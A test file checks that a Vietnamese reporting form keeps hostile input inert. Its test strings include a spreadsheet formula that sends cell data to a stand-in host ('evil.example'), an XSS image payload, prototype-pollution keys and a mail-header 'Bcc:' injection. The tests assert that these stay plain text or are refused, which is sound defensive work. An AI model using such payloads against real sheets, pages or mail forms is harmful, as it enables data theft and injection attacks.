/** What somebody may send through the Form to do harm, or by an accident of fonts and keyboards. */
import { expect, test } from 'vitest';
import { type Cells, Desk } from '../support/tonghop.ts';
import {
  answer,
  cells,
  clock,
  coordinator,
  errors,
  outbox,
  profiles,
  sent,
  table,
  told,
  totals,
  within,
} from './answers.ts';

const difficulty: Cells = { 'difficulty.has': 'Có', 'difficulty.kind': 'Khác' };
const team: Cells = { 'area.team': 'Đã thành lập', 'area.teamMembers': 3 };

const texts = [
  '=IMPORTXML("https://evil.example/?"&A1;"//a")',
  '+1',
  '-1',
  '@SUM(1;1)',
  '\t=1+1',
  '＝1+1',
  '<img src=x onerror=alert(1)> & <b>đậm</b> {{unitName}}',
  '😀 Trần Thị Mẫu',
  '05/4/2026',
  '095074',
  '1E5',
  'TRUE',
  '#REF!',
  'Nguyễn Thị Ẩn'.normalize('NFD'),
];

/** As it is kept: NFC, one line of single spaces. */
const kept = (text: string): string => text.normalize('NFC').trim();

const answers = (text: string): Cells[] => [
  answer('TH01', {
    ...difficulty,
    ...team,
    'area.teamDoc': text,
    submitter: text,
    submitterTitle: text,
    head: text,
    reason: text,
    'difficulty.text': text,
    'difficulty.doc': text,
  }),
  answer('CA01', { 'congAn.lagging': text, reason: text }),
  answer('TR01', { 'school.plan': text, reason: text }),
  answer('VP01', { 'office.plan': text, 'office.reason': text, reason: text }),
  answer('DV01', { 'ttDvsnc.broadcastDates': text, 'ttDvsnc.links': text, reason: text }),
  answer('QS01', { 'support.scope': text, reason: text }),
];

test.each(profiles)('%s: formulas, HTML and odd characters in every free text stay text', async (profile) => {
  const desk = await new Desk().init(profile, { coordinatorEmail: coordinator });
  const rows = texts.flatMap(answers);
  expect(await sent(desk, ...rows)).toEqual(rows.map(() => 'accepted:'));
  const columns: [string, string[]][] = [
    [
      'submissions.area',
      ['area.teamDoc', 'submitter', 'submitterTitle', 'head', 'reason', 'difficulty.text', 'difficulty.doc'],
    ],
    ['submissions.congAn', ['congAn.lagging', 'reason']],
    ['submissions.school', ['school.plan']],
    ['submissions.office', ['office.plan', 'office.reason']],
    ['submissions.ttDvsnc', ['ttDvsnc.broadcastDates', 'ttDvsnc.links']],
    ['submissions.support', ['support.scope']],
    ['difficulties', ['text', 'doc']],
  ];
  for (const [tab, codes] of columns) {
    const stored = await table(desk, tab);
    for (const code of codes)
      expect([tab, code, stored.map((r) => kept(String(r[code])))]).toEqual([tab, code, texts.map(kept)]);
  }
  expect(cells(desk).filter((c) => c.formula)).toEqual([]);
  expect((await totals(desk)).units.TH01).toMatchObject({ state: 'reported', CT01: { num: 300 } });
  const mails = within(desk, (w) => w.outbox());
  expect(mails.filter((m) => m.htmlBody.includes('<img'))).toEqual([]);
  expect(mails.filter((m) => m.body.includes('<img src=x'))).not.toEqual([]);
  expect(errors(desk)).toEqual([]);
});

test('a formula in a text does not become one when other cells of its row are edited or the row is put back', async () => {
  const desk = await new Desk().init('an-khanh');
  const [line] = await desk.submit(answer('TH01', { reason: '=1+1', ...team, 'area.teamDoc': '=HYPERLINK("x")' }));
  await desk.run(
    'edit',
    '--tab',
    'submissions.area',
    '--row',
    line?.responseId as string,
    '--column',
    'area.broadcasts',
    '--value',
    '5',
  );
  within(desk, (w) => {
    const find = w.run('App.find', ['submissions.area', line?.responseId, 'reason'], { recorded: false }).value as {
      sheetId: number;
      row: number;
    };
    w.deleteRows(find.sheetId, find.row, 1);
  });
  await clock(desk, '2026-05-20T08:40:00+07:00');
  expect(await table(desk, 'submissions.area')).toMatchObject([{ reason: '=1+1', 'area.teamDoc': '=HYPERLINK("x")' }]);
  expect(cells(desk).filter((c) => c.formula)).toEqual([]);
  expect(await sent(desk, answer('TH01', { kind: 'unchanged', ...none() }))).toEqual(['accepted:']);
  expect(cells(desk).filter((c) => c.formula)).toEqual([]);
});

/** Every figure of an area left unanswered. */
const none = (): Cells =>
  Object.fromEntries(
    Object.keys(answer('TH01'))
      .filter((k) => k.startsWith('area.'))
      .map((k) => [k, '']),
  );

test.each([49_000, 50_000, 120_000])('%i characters in every free text of one answer', async (length) => {
  const desk = await new Desk().init('an-khanh', { coordinatorEmail: coordinator });
  const long = 'Khó khăn, vướng mắc. '.repeat(length / 20).slice(0, length);
  for (const row of answers(long)) expect([row.unit, await sent(desk, row)]).toEqual([row.unit, ['accepted:']]);
  expect(errors(desk)).toEqual([]);
  expect((await totals(desk)).coverage).toMatchObject({ reported: 4 });
  expect((await table(desk, 'ledger')).filter((r) => r.status !== 'Đã gửi')).toEqual([]);
  expect(String((await table(desk, 'submissions.area'))[0]?.reason).length).toBeGreaterThan(48_000);
  expect(await sent(desk, answer('TH01', { 'area.householdsInstalled': 301 }))).toEqual(['accepted:']);
  await clock(desk, '2026-05-21T09:00:00+07:00');
  expect(errors(desk)).toEqual([]);
});

test('a list of thousands of people, and one that is wrong in every line', async () => {
  const desk = await new Desk().init('hai-duong');
  const lines = (home: string): string =>
    Array.from({ length: 3000 }, (_, i) => `Trần Thị Bình; ${1940 + (i % 60)}; Phòng số ${i}; ${home}`).join('\n');
  const people = (home: string): Cells => answer('VP01', { 'office.loggedIn': 10, roster: lines(home) });
  const [good, bad] = await desk.submit(people('Tổ dân phố số 5'), people('TDP 5, 0912345678'));
  expect([good?.status, bad?.status]).toEqual(['accepted', 'returned']);
  expect((await totals(desk)).units.VP01?.state).toBe('reported');
  expect(errors(desk)).toEqual([]);
  expect((await table(desk, 'ledger')).map((r) => r.status)).toEqual(['Đã gửi', 'Đã gửi']);
  expect(within(desk, (w) => w.outbox()).filter((m) => m.body.length > 200_000)).toEqual([]);
});

test.each(['1000000000000000', '1.5', '-1', '1,5', 'mười', '１２'])(
  '%s for a figure: the Form refuses, in words',
  async (figure) => {
    const desk = await new Desk().init('an-khanh');
    const row = answer('TH01', { 'area.householdsInstalled': figure });
    expect(await sent(desk, row)).toEqual(['refused:']);
    const refused = within(desk, (w) => {
      const guide = w.run('App.formGuide', [], { recorded: false }).value as {
        units: Record<string, { label: string; pin: string }>;
        common: Record<string, string>;
        sections: Record<string, Record<string, string>>;
      };
      const { common, sections } = guide;
      const id = (code: string): string => ({ ...common, ...sections.area })[code] as string;
      const own = Object.entries(row).filter(([code]) => code.startsWith('area.'));
      const who = {
        unit: guide.units.TH01?.label,
        pin: guide.units.TH01?.pin,
        submitter: 'a',
        submitterTitle: 'b',
        asOf: '2026-05-20',
        kind: 'Gửi số liệu',
      };
      const all = [...Object.entries(who), ...own].map(([code, value]) => [id(code), String(value)]);
      return w.respond({ answers: Object.fromEntries(all) });
    });
    expect(refused).toMatchObject({
      refused: [{ title: 'Số hộ đã cài đặt', why: expect.stringContaining('Chỉ nhập số nguyên từ 0 trở lên') }],
    });
    expect(await table(desk, 'submissions.area')).toEqual([]);
  },
);

test('an unknown unit code is refused; so are codes of the language', async () => {
  const desk = await new Desk().init('an-khanh');
  const rows = ['TH99', 'constructor', '__proto__', '=1+1', 'th01', ''].map((unit) => ({ ...answer('TH01'), unit }));
  expect(await sent(desk, ...rows)).toEqual(rows.map(() => 'refused:'));
  expect((await totals(desk)).coverage).toMatchObject({ reported: 0, missing: 19 });
});

test('names in NFD and TCVN3: the first is kept as NFC, the second sent back with an instruction', async () => {
  const desk = await new Desk().init('an-khanh');
  const lines = await desk.submit(
    answer('TH01', { submitter: 'Nguyễn Thị Ẩn'.normalize('NFD') }),
    answer('TH02', { 'area.households': 356, submitter: 'NguyÔn V¨n §øc' }),
  );
  expect(lines.map(told)).toEqual(['accepted:', 'returned: E-ROS-07 submitter return']);
  const rows = await table(desk, 'submissions.area');
  expect(rows[0]?.submitter).toBe('Nguyễn Thị Ẩn');
  expect(String(rows[1]?.problems)).toContain('bảng mã Unicode');
  const mails = await outbox(desk);
  expect(mails[1]?.body).toContain('Họ và tên người lập báo cáo');
  expect(mails[1]?.body).toContain('UniKey');
});

test('a mail address may not bring others along', async () => {
  const desk = await new Desk().init('an-khanh');
  const rows = [
    'a@mau.example,b@mau.example',
    'a@mau.example; b@mau.example',
    'a@mau.example\nBcc: b@mau.example',
    '"a b"@mau.example',
  ];
  const found = await sent(desk, ...rows.map((email) => answer('TH01', { email })));
  const mails = await outbox(desk);
  expect(mails).toHaveLength(found.filter((f) => f !== 'refused:').length);
  for (const mail of mails) expect(mail.to).toMatch(/^[^,;\s]+@mau\.example$/);
});
